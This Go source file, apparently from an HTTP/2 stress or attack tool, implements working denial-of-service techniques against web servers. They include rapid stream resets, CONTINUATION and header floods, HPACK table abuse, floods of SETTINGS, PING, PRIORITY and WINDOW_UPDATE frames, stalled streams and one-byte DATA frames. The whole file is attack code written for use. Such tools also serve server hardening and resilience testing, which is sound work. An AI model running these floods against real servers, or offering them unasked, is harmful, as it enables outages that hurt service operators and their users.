package main

import (
	"bytes"
	"fmt"
	"strings"
	"time"

	"golang.org/x/net/http2"
)

// onEachSession runs a session of HTTP/2 on each connection, and then waits until the peer ends it or the attack is over.
func (a *attack) onEachSession(run func(s *session) error) any {
	return a.onEachConnection(func(int) error {
		s, err := a.session(0)
		if err != nil {
			return err
		}
		defer s.conn.Close()
		if err := run(s); err != nil {
			// The reason of the peer says more than the failed write.
			select {
			case <-s.ended:
				return s.err
			case <-time.After(time.Second):
				return err
			}
		}
		return s.wait()
	})
}

// stalledStreams opens streams whose bodies never end.
func stalledStreams(a *attack) any {
	body := bytes.Repeat([]byte("x"), a.first)
	return a.onEachSession(func(s *session) error {
		for n := range a.streams {
			stream := uint32(1 + 2*n)
			if err := s.open(stream, s.request(a.first+1_000), false); err != nil {
				return err
			}
			a.add("streams")
			if s.send(stream, body, false) != nil {
				a.add("no window")
			}
		}
		return nil
	})
}

// rapidReset opens streams and resets each at once, with -whole after a whole request.
func rapidReset(a *attack) any {
	return a.onEachSession(func(s *session) error {
		began := time.Now()
		length := 100
		if a.whole {
			length = 0
		}
		for n := 0; a.tick(began, n) && !s.hasEnded(); n++ {
			stream := uint32(1 + 2*n)
			if err := s.open(stream, s.request(length), a.whole); err != nil {
				return err
			}
			if err := s.do(func() error { return s.WriteRSTStream(stream, http2.ErrCodeCancel) }); err != nil {
				return err
			}
			a.add("streams")
		}
		return nil
	})
}

// continuationFlood adds to a header block for as long as the peer permits: 8 kB per frame, or with the variant `empty` nothing.
func continuationFlood(a *attack) any {
	return a.onEachSession(func(s *session) error {
		block := s.request(0)
		if err := s.do(func() error {
			return s.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block, EndStream: true})
		}); err != nil {
			return err
		}
		began := time.Now()
		for n := 0; a.tick(began, n) && !s.hasEnded(); n++ {
			var part []byte
			if a.variant != "empty" {
				part = s.encode(field{Name: fmt.Sprintf("x-%d", n), Value: strings.Repeat("v", 8_000), Sensitive: true})
			}
			if err := s.do(func() error { return s.WriteContinuation(1, false, part) }); err != nil {
				return err
			}
			a.add("frames")
		}
		return nil
	})
}

// headerFlood sends requests with odd headers over and over:
// `many` has 2,000 small ones, `large` one of 60 kB, `table` 1,000 references to one large entry of HPACK's table (HTTP/2 only).
func headerFlood(a *attack) any {
	if !a.http2 {
		return a.headerFlood1()
	}
	var fields []field
	switch a.variant {
	case "large":
		fields = []field{{Name: "x-large", Value: strings.Repeat("v", 60_000)}}
	case "table":
		for range 1_000 {
			fields = append(fields, field{Name: "x-table", Value: strings.Repeat("v", 3_800)})
		}
	default:
		for n := range 2_000 {
			fields = append(fields, field{Name: fmt.Sprintf("x-%d", n%50), Value: "v"})
		}
	}
	return a.onEachSession(func(s *session) error {
		began := time.Now()
		for n := 0; a.tick(began, n) && !s.hasEnded(); n++ {
			if err := s.open(uint32(1+2*n), s.request(0, fields...), true); err != nil {
				return err
			}
			a.add("streams")
		}
		return nil
	})
}

func (a *attack) headerFlood1() any {
	headers := []string{"x-large: " + strings.Repeat("v", 60_000)}
	if a.variant != "large" {
		headers = nil
		for n := range 2_000 {
			headers = append(headers, fmt.Sprintf("x-%d: v", n))
		}
	}
	return a.onEachConnection(func(int) error {
		conn, err := a.tls(0, "http/1.1")
		if err != nil {
			return err
		}
		defer conn.Close()
		began := time.Now()
		go func() { _, _ = conn.Write([]byte(a.head("GET", headers...))) }()
		a.add("requests")
		return a.countAnswers(conn, began)
	})
}

// frameFlood sends control frames at a constant rate.
func frameFlood(a *attack) any {
	return a.onEachSession(func(s *session) error {
		if err := s.open(1, s.request(100), false); err != nil {
			return err
		}
		began := time.Now()
		for n := 0; a.tick(began, n) && !s.hasEnded(); n++ {
			if err := s.do(func() error { return s.control(a.variant, n) }); err != nil {
				return err
			}
			a.add("frames")
		}
		return nil
	})
}

func (s *session) control(variant string, n int) error {
	switch variant {
	case "settings":
		return s.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(n % 60_000)})
	case "ping":
		return s.WritePing(false, [8]byte{byte(n)})
	case "priority":
		return s.WritePriority(uint32(1+2*n), http2.PriorityParam{StreamDep: 0, Weight: byte(n)})
	case "window":
		return s.WriteWindowUpdate(0, 1)
	case "window-overflow":
		return s.WriteWindowUpdate(0, 1<<31-1)
	case "stream-window-overflow":
		return s.WriteWindowUpdate(1, 1<<31-1)
	case "window-zero":
		return s.WriteWindowUpdate(1, 0)
	case "empty-headers":
		return s.WriteRawFrame(http2.FrameHeaders, http2.FlagHeadersEndHeaders, uint32(3+2*n), nil)
	case "unknown":
		return s.WriteRawFrame(0xfa, 0, 0, []byte("unknown"))
	}
	return fmt.Errorf("unknown variant %q", variant)
}

// smallFrames sends bodies in DATA frames of one byte; with the variant `empty` frames without a byte, on one stream forever.
func smallFrames(a *attack) any {
	return a.onEachSession(func(s *session) error {
		began := time.Now()
		stream, left := uint32(1), 0
		for n := 0; a.tick(began, n) && !s.hasEnded(); n++ {
			if left == 0 {
				if n > 0 {
					stream += 2
				}
				left = max(a.size, 1)
				if err := s.open(stream, s.request(left), false); err != nil {
					return err
				}
			}
			var part []byte
			if a.variant != "empty" {
				part = []byte("x")
				left--
			}
			if err := s.send(stream, part, left == 0); err != nil {
				return err
			}
			a.add("frames")
		}
		return nil
	})
}
